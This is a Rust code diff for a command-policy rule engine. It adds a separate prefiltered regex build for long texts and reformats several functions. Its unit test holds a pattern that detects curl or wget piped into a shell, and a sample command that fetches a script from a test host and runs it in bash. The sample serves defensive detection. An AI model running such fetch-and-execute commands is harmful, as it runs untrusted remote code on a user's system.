@@ -145,16 +145,21 @@ pub struct OptionCond {
 #[derive(Debug)]
 pub struct LazyRegex {
     pub src: String,
-    /// Build a literal prefilter (see [`Searched`]).
-    prefilter: bool,
+    /// What the pattern runs over (see [`Searched`]).
+    searched: Searched,
+    /// Without a literal prefilter: short texts, and every text of a pattern run on short strings.
     re: OnceLock<Regex>,
+    /// With a literal prefilter: texts of [`LONG_TEXT`] bytes or more.
+    re_long: OnceLock<Regex>,
 }
 
 /// What a pattern is run over. A literal prefilter (extracting the
 /// pattern's literals and building a SIMD searcher for them) is half the
 /// cost of compiling a pattern, and every hook process compiles the ones it
-/// uses; it pays off only on long texts. Arguments, option values and paths
-/// are short, so their patterns go without.
+/// uses; it pays off only on long texts, where it lets the search skip to
+/// candidate positions instead of walking every byte through the lazy DFA.
+/// So a pattern is compiled without one, and patterns that may meet long
+/// texts are compiled a second time with one the first time such a text comes.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Searched {
     /// One argument, option value, file name or assignment: tens of bytes.
@@ -163,25 +168,49 @@ pub enum Searched {
     Long,
 }
 
+/// Texts from this length on are searched with the prefiltered build. Below
+/// it a prefilter saves less than it costs: on the dev corpora (events of
+/// a few hundred bytes) building none cut 5% of all instructions.
+const LONG_TEXT: usize = 4096;
+
 impl LazyRegex {
     fn new(src: &str, searched: Searched) -> LazyRegex {
-        LazyRegex { src: src.to_string(), prefilter: searched == Searched::Long, re: OnceLock::new() }
+        LazyRegex {
+            src: src.to_string(),
+            searched,
+            re: OnceLock::new(),
+            re_long: OnceLock::new(),
+        }
     }
-    pub fn get(&self) -> &Regex {
-        self.re.get_or_init(|| build(&self.src, self.prefilter).unwrap_or_else(|_| build("$^", false).expect("never-matching regex")))
+    /// The build for a text of `len` bytes.
+    fn for_len(&self, len: usize) -> &Regex {
+        let (cell, prefilter) = if self.searched == Searched::Long && len >= LONG_TEXT {
+            (&self.re_long, true)
+        } else {
+            (&self.re, false)
+        };
+        cell.get_or_init(|| {
+            build(&self.src, prefilter)
+                .unwrap_or_else(|_| build("$^", false).expect("never-matching regex"))
+        })
     }
     pub fn is_match(&self, s: &str) -> bool {
-        self.get().is_match(s.as_bytes())
+        self.for_len(s.len()).is_match(s.as_bytes())
     }
     /// Byte range of the first match.
     pub fn find(&self, s: &str) -> Option<(usize, usize)> {
-        self.get().find(s.as_bytes()).map(|m| (m.start(), m.end()))
+        self.for_len(s.len())
+            .find(s.as_bytes())
+            .map(|m| (m.start(), m.end()))
     }
 }
 
 /// Keywords are matched ignoring ASCII case.
 fn keywords(list: &[String]) -> Result<Keywords, PackError> {
-    Keywords::new(list, true).map_err(|e| PackError { origin: "default".into(), message: e.to_string() })
+    Keywords::new(list, true).map_err(|e| PackError {
+        origin: "default".into(),
+        message: e.to_string(),
+    })
 }
 
 /// The `regex` crate's byte-oriented regex, built through its engine
@@ -250,7 +279,10 @@ pub struct Names {
 impl Names {
     /// `exact` is kept sorted (see `resolve_names`), so lookups are binary searches.
     pub fn contains(&self, name: &str) -> bool {
-        self.exact.binary_search_by(|n| n.as_str().cmp(name)).is_ok() || self.prefixes.iter().any(|p| name.starts_with(p.as_str()))
+        self.exact
+            .binary_search_by(|n| n.as_str().cmp(name))
+            .is_ok()
+            || self.prefixes.iter().any(|p| name.starts_with(p.as_str()))
     }
 }
 
@@ -293,11 +325,19 @@ pub struct RuleSet {
     pub unknown_ids: Vec<String>,
 }
 
-fn resolve_names(list: &[String], sets: &BTreeMap<String, Vec<String>>, origin: &str, id: &str) -> Result<Names, PackError> {
+fn resolve_names(
+    list: &[String],
+    sets: &BTreeMap<String, Vec<String>>,
+    origin: &str,
+    id: &str,
+) -> Result<Names, PackError> {
     let mut names = Names::default();
     for n in list {
         let expanded: Vec<String> = if let Some(set) = n.strip_prefix('@') {
-            sets.get(set).cloned().ok_or_else(|| PackError { origin: origin.into(), message: format!("rule `{id}`: unknown set `@{set}`") })?
+            sets.get(set).cloned().ok_or_else(|| PackError {
+                origin: origin.into(),
+                message: format!("rule `{id}`: unknown set `@{set}`"),
+            })?
         } else {
             vec![n.clone()]
         };
@@ -313,24 +353,40 @@ fn resolve_names(list: &[String], sets: &BTreeMap<String, Vec<String>>, origin: 
     Ok(names)
 }
 
-fn compile_cond(c: &Cond, sets: &BTreeMap<String, Vec<String>>, origin: &str, id: &str, check: bool) -> Result<Compiled, PackError> {
+fn compile_cond(
+    c: &Cond,
+    sets: &BTreeMap<String, Vec<String>>,
+    origin: &str,
+    id: &str,
+    check: bool,
+) -> Result<Compiled, PackError> {
     let re = |s: &Option<String>, searched: Searched| -> Result<Option<LazyRegex>, PackError> {
         match s {
             None => Ok(None),
             Some(src) => {
                 if check {
-                    build(src, false).map_err(|e| PackError { origin: origin.into(), message: format!("rule `{id}`: bad regex `{src}`: {e}") })?;
+                    build(src, false).map_err(|e| PackError {
+                        origin: origin.into(),
+                        message: format!("rule `{id}`: bad regex `{src}`: {e}"),
+                    })?;
                 }
                 Ok(Some(LazyRegex::new(src, searched)))
             }
         }
     };
-    let names = |l: &Option<Vec<String>>| -> Result<Option<Names>, PackError> { l.as_ref().map(|l| resolve_names(l, sets, origin, id)).transpose() };
+    let names = |l: &Option<Vec<String>>| -> Result<Option<Names>, PackError> {
+        l.as_ref()
+            .map(|l| resolve_names(l, sets, origin, id))
+            .transpose()
+    };
     Ok(Compiled {
         command: names(&c.command)?,
         flags: c.flags.clone(),
         option: match &c.option {
-            Some(o) => Some((o.flags.clone(), re(&Some(o.value.clone()), Searched::Short)?.expect("some"))),
+            Some(o) => Some((
+                o.flags.clone(),
+                re(&Some(o.value.clone()), Searched::Short)?.expect("some"),
+            )),
             None => None,
         },
         args: re(&c.args, Searched::Short)?,
@@ -345,19 +401,33 @@ fn compile_cond(c: &Cond, sets: &BTreeMap<String, Vec<String>>, origin: &str, id
         pipeline_has: names(&c.pipeline_has)?,
         script_has: names(&c.script_has)?,
         code: re(&c.code, Searched::Long)?,
-        code_all: c.code_all.iter().flatten().map(|s| re(&Some(s.clone()), Searched::Long).map(|r| r.expect("some"))).collect::<Result<_, _>>()?,
+        code_all: c
+            .code_all
+            .iter()
+            .flatten()
+            .map(|s| re(&Some(s.clone()), Searched::Long).map(|r| r.expect("some")))
+            .collect::<Result<_, _>>()?,
         lang: c.lang.clone(),
         redirect: re(&c.redirect, Searched::Short)?,
         redirect_write: re(&c.redirect_write, Searched::Short)?,
         assign: re(&c.assign, Searched::Short)?,
         dest: c.dest.clone(),
         name_built: c.name_built,
-        keywords: c.keywords.clone().unwrap_or_default().iter().map(|k| k.to_ascii_lowercase()).collect(),
+        keywords: c
+            .keywords
+            .clone()
+            .unwrap_or_default()
+            .iter()
+            .map(|k| k.to_ascii_lowercase())
+            .collect(),
         keyword_ids: Vec::new(),
         text: re(&c.text, Searched::Long)?,
         path: re(&c.path, Searched::Short)?,
         content: re(&c.content, Searched::Long)?,
-        method: c.method.as_ref().map(|m| m.iter().map(|s| s.to_ascii_uppercase()).collect()),
+        method: c
+            .method
+            .as_ref()
+            .map(|m| m.iter().map(|s| s.to_ascii_uppercase()).collect()),
         signal: c.signal.clone(),
     })
 }
@@ -366,17 +436,42 @@ impl RuleSet {
     /// Compile a pack plus user rules. `check_regexes` validates every
     /// pattern now (policy check, tests); the hot start path skips it and
     /// relies on the shipped pack having been validated by the test suite.
-    pub fn compile(source: PackSource, extra: &[toml::Value], overrides: &Overrides, check_regexes: bool) -> Result<RuleSet, PackError> {
-        let err = |message: String| PackError { origin: "default".into(), message };
-        let pack: PackFile = match source {
-            PackSource::Compact => serde_json::from_str(DEFAULT_PACK_JSON).map_err(|e| err(e.to_string()))?,
-            PackSource::WithExamples => toml::from_str(DEFAULT_PACK).map_err(|e| err(e.to_string()))?,
+    pub fn compile(
+        source: PackSource,
+        extra: &[toml::Value],
+        overrides: &Overrides,
+        check_regexes: bool,
+    ) -> Result<RuleSet, PackError> {
+        let err = |message: String| PackError {
+            origin: "default".into(),
+            message,
         };
-        let mut specs: Vec<(RuleSpec, &str)> = pack.rules.into_iter().map(|r| (r, "default")).collect();
+        let pack: PackFile = match source {
+            PackSource::Compact => {
+                serde_json::from_str(DEFAULT_PACK_JSON).map_err(|e| err(e.to_string()))?
+            }
+            PackSource::WithExamples => {
+                toml::from_str(DEFAULT_PACK).map_err(|e| err(e.to_string()))?
+            }
+        };
+        let mut specs: Vec<(RuleSpec, &str)> =
+            pack.rules.into_iter().map(|r| (r, "default")).collect();
         for (i, v) in extra.iter().enumerate() {
-            let spec: RuleSpec = v.clone().try_into().map_err(|e: toml::de::Error| PackError { origin: format!("policy rules.add[{i}]"), message: e.message().to_string() })?;
+            let spec: RuleSpec = v
+                .clone()
+                .try_into()
+                .map_err(|e: toml::de::Error| PackError {
+                    origin: format!("policy rules.add[{i}]"),
+                    message: e.message().to_string(),
+                })?;
             if !(0.0..=1.0).contains(&spec.confidence) {
-                return Err(PackError { origin: format!("policy rules.add[{i}]"), message: format!("rule `{}`: confidence {} not in [0, 1]", spec.id, spec.confidence) });
+                return Err(PackError {
+                    origin: format!("policy rules.add[{i}]"),
+                    message: format!(
+                        "rule `{}`: confidence {} not in [0, 1]",
+                        spec.id, spec.confidence
+                    ),
+                });
             }
             // A user rule with the id of a shipped rule replaces it.
             specs.retain(|(s, _)| s.id != spec.id);
@@ -386,7 +481,11 @@ impl RuleSet {
             .disable
             .iter()
             .chain(overrides.changes.keys())
-            .filter(|d| !specs.iter().any(|(s, _)| s.id == **d || (d.ends_with('*') && s.id.starts_with(&d[..d.len() - 1]))))
+            .filter(|d| {
+                !specs.iter().any(|(s, _)| {
+                    s.id == **d || (d.ends_with('*') && s.id.starts_with(&d[..d.len() - 1]))
+                })
+            })
             .cloned()
             .collect();
         unknown_ids.dedup();
@@ -396,10 +495,34 @@ impl RuleSet {
                 continue;
             }
             if !(0.0..=1.0).contains(&spec.confidence) {
-                return Err(PackError { origin: origin.into(), message: format!("rule `{}`: confidence {} not in [0, 1]", spec.id, spec.confidence) });
+                return Err(PackError {
+                    origin: origin.into(),
+                    message: format!(
+                        "rule `{}`: confidence {} not in [0, 1]",
+                        spec.id, spec.confidence
+                    ),
+                });
             }
-            let when = compile_cond(&spec.when, &pack.sets, origin, &spec.id, check_regexes || origin != "default")?;
-            let then = spec.then.as_ref().map(|t| compile_cond(t, &pack.sets, origin, &spec.id, check_regexes || origin != "default")).transpose()?;
+            let when = compile_cond(
+                &spec.when,
+                &pack.sets,
+                origin,
+                &spec.id,
+                check_regexes || origin != "default",
+            )?;
+            let then = spec
+                .then
+                .as_ref()
+                .map(|t| {
+                    compile_cond(
+                        t,
+                        &pack.sets,
+                        origin,
+                        &spec.id,
+                        check_regexes || origin != "default",
+                    )
+                })
+                .transpose()?;
             let (severity, confidence) = overrides.apply(&spec.id, spec.severity, spec.confidence);
             rules.push(Rule {
                 id: spec.id,
@@ -470,7 +593,17 @@ impl RuleSet {
             let ac = keywords(&kw_list)?;
             Some((ac, kw_rules))
         };
-        Ok(RuleSet { version: pack.version, rules, by_name, generic, by_scope, text_keywords, text_unfiltered, cmd_keywords, unknown_ids })
+        Ok(RuleSet {
+            version: pack.version,
+            rules,
+            by_name,
+            generic,
+            by_scope,
+            text_keywords,
+            text_unfiltered,
+            cmd_keywords,
+            unknown_ids,
+        })
     }
 }
 
@@ -483,12 +616,45 @@ pub struct Overrides {
 
 impl Overrides {
     fn disabled(&self, id: &str) -> bool {
-        self.disable.iter().any(|d| d == id || (d.ends_with('*') && id.starts_with(&d[..d.len() - 1]))) || self.changes.get(id).map(|o| o.disabled).unwrap_or(false)
+        self.disable
+            .iter()
+            .any(|d| d == id || (d.ends_with('*') && id.starts_with(&d[..d.len() - 1])))
+            || self.changes.get(id).map(|o| o.disabled).unwrap_or(false)
     }
     fn apply(&self, id: &str, sev: Severity, conf: f64) -> (Severity, f64) {
         match self.changes.get(id) {
             Some(o) => (o.severity.unwrap_or(sev), o.confidence.unwrap_or(conf)),
             None => (sev, conf),
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn long_texts_use_the_prefiltered_build_with_the_same_matches() {
+        let re = LazyRegex::new(r"(?i)\b(curl|wget)\s[^\n]*\|\s*(ba|z)?sh\b", Searched::Long);
+        let command = "CURL -fsSL http://example.test/x.sh | bash";
+        let pad = "echo ok; ".repeat(LONG_TEXT / 9 + 1);
+        let long = format!("{pad}{command}");
+        assert!(long.len() >= LONG_TEXT);
+        assert_eq!(re.find(command), Some((0, command.len())));
+        assert!(
+            re.re_long.get().is_none(),
+            "a short text must not build the prefiltered regex"
+        );
+        assert_eq!(re.find(&long), Some((pad.len(), long.len())));
+        assert!(
+            re.re_long.get().is_some(),
+            "a long text is searched with the prefiltered build"
+        );
+        assert!(!re.is_match(&format!("{pad}curl -o x.sh http://example.test/x.sh")));
+        // Patterns for short strings never build a second regex.
+        let short = LazyRegex::new(r"^-R$", Searched::Short);
+        assert!(short.is_match("-R"));
+        assert!(!short.is_match(&format!("{pad}-R")));
+        assert!(short.re_long.get().is_none());
     }
 }
